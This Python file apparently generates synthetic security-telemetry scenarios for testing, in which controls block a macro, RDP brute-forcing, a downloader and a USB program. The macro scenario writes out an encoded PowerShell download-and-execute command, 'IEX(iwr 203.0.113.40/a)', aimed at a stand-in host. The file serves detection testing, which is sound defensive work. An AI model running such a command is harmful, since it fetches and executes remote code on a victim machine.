"""Attempts that a control stopped: nobody got in."""
from kit.acts import encoded

from . import estate
from .steps import h, m, s


@estate("macro-blocked", "A macro that the rule for Office stopped, on three desks")
def macro(e):
    desks = e.people(19)
    e.servers("dc", "file", "app")
    e.admin()
    t = e.at(e.workday(13), "09:12")
    for i, pc in enumerate(desks[4:13:4]):
        k = t + m(11 * i)
        w = e.run(pc, k, "winword.exe", f'"WINWORD.EXE" /n "C:\\Users\\{pc.user}\\Downloads\\Invoice 88.docm"',
                  e.base(pc, "OUTLOOK.EXE"))
        e.file(pc, k - s(20), "FileCreated", f"C:\\Users\\{pc.user}\\Downloads\\Invoice 88.docm", e.base(pc,
            "OUTLOOK.EXE"),
               content="invoice 88", FileOriginUrl="https://mail.example.com/")
        b = e.event(pc, k + s(15), "AsrOfficeChildProcessBlocked", w, {"IsAudit": False,
            "RuleId": "d4f940ab-401b-4efc-aadc-ad5f3c50688a"},
                    FileName="powershell.exe",
                    FolderPath="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    ProcessCommandLine=f"powershell -enc {encoded('IEX(iwr 203.0.113.40/a)')}")
        e.held(pc, "T1204.002", "scid-2501", k + s(15), "the rule stopped the child", [w, b])
    e.verdict = "prevented"
    e.decoy(desks[0], "scid-2501", "off; no such mail came here")
    e.decoy(desks[6], "scid-2509", "off; nobody read lsass")
    e.alert(desks[4], t + m(1), "Suspicious Office child process blocked", "Execution", "Medium", ["T1204.002"])


@estate("rdp-locked", "Guessing at remote desktop from the internet; the lockout did its work")
def locked(e):
    e.people(8)
    dc, rds = e.servers("dc", "rds")
    e.admin()
    rds.facing = True
    for c in ("scid-44", "scid-41", "scid-42"): rds.off.discard(c)
    t, ip = e.at(15, "01:02"), "203.0.113.66"
    rows = []
    for r in range(14):
        for i in range(9):
            rows.append(e.logon(rds, t + m(16 * r) + s(7 * i), "administrator" if r % 2 else "info", "Network", ip,
                                ok=False,
                                reason="InvalidUserNameOrPassword" if i < 5 else "AccountLockedOut"))
    n = e.net(rds, t, e.base(rds, "svchost.exe"), ip, 3389, action="InboundConnectionAccepted")
    e.held(rds, "T1110.001", "scid-44", t + s(35), "accounts were locked after five failures", [n, *rows[4:6]])
    for d in range(17, 20):
        for i in range(3): e.event(rds, e.at(d, "02:00") + m(i), "FirewallInboundConnectionBlocked", None, RemoteIP=ip,
                                   LocalPort=3389,
                                   LocalIP=rds.ip, RemotePort=51000 + i)
    e.verdict = "prevented"
    e.decoy(rds, "scid-114", "the port was open, but nobody got in")
    for n in range(1, 20): e.logon(rds, e.at(n, "18:30"), "hgreen", "RemoteInteractive", "198.51.100.77", admin=False)


@estate("loader-removed", "A loader that the antivirus removed as it was written; a second one when it started")
def removed(e):
    desks = e.people(31)
    e.servers("dc", "file", "app", "db")
    e.admin()
    t = e.at(e.workday(12), "13:40")
    a, b = desks[5], desks[22]
    p = e.run(a, t, "msedge.exe", '"msedge.exe" --single-argument https://cloud-doc.example.net/x', e.base(a,
        "OUTLOOK.EXE"))
    f = e.file(a, t + s(12), "FileCreated", f"C:\\Users\\{a.user}\\Downloads\\Contract.exe", p, content="loader z",
               FileOriginUrl="https://cloud-doc.example.net/x")
    d = e.detection(a, t + s(13), f["FolderPath"], "TrojanDownloader:Win32/Zed.C", True, p, content="loader z")
    e.held(a, "T1204.002", "scid-2012", t + s(13), "removed as it was written", [f, d])
    k = t + h(2)
    p = e.run(b, k, "chrome.exe", '"chrome.exe" -- "https://cloud-doc.example.net/x"')
    f = e.file(b, k + s(12), "FileCreated", f"C:\\Users\\{b.user}\\Downloads\\Contract.exe", p, content="loader z2")
    q = e.run(b, k + s(40), f["FolderPath"], '"Contract.exe"', content="loader z2")
    d = e.detection(b, k + s(41), f["FolderPath"], "Behavior:Win32/Zed.D", True, q, content="loader z2")
    e.held(b, "T1204.002", "scid-91", k + s(41),
           "ended and removed within a second of its start, before it did anything", [q, d])
    e.verdict = "prevented"
    e.alert(b, k, "Malware was prevented", "Malware", "Informational", ["T1204.002"], q)
    e.decoy(desks[9], "scid-2012", "off; the mail did not come here")


@estate("stick-refused", "A stick that the drive policy refused, and one whose program the rule stopped")
def refused(e):
    desks = e.people(10)
    e.servers("dc", "file")
    a, b = desks[2], desks[7]
    t = e.at(14, "12:05")
    x = e.event(a, t, "PnpDeviceBlocked", None, {"ClassName": "DiskDrive", "DeviceDescription": "Unknown Flash"})
    e.held(a, "T1091", "usb.control", t, "the drive was not accepted", [x])
    k = t + m(7)
    u = e.event(b, k, "UsbDriveMounted", None, {"DriveLetter": "E:", "ProductName": "Flash", "SerialNumber": "991"})
    r = e.event(b, k + s(31), "AsrUntrustedUsbProcessBlocked", e.base(b, "explorer.exe"),
                {"RuleId": "b2b3f03d-6a65-4f7b-a9c7-1c7ef74a9ba4"},
                FileName="open_me.exe", FolderPath="E:\\open_me.exe", ProcessCommandLine="E:\\open_me.exe")
    e.held(b, "T1091", "scid-2511", k + s(31), "the rule stopped its program", [u, r])
    e.verdict = "prevented"
    e.decoy(desks[5], "scid-2511", "off; no stick was put in")
    e.missing |= {"AlertInfo", "AlertEvidence", "DeviceNetworkInfo"}
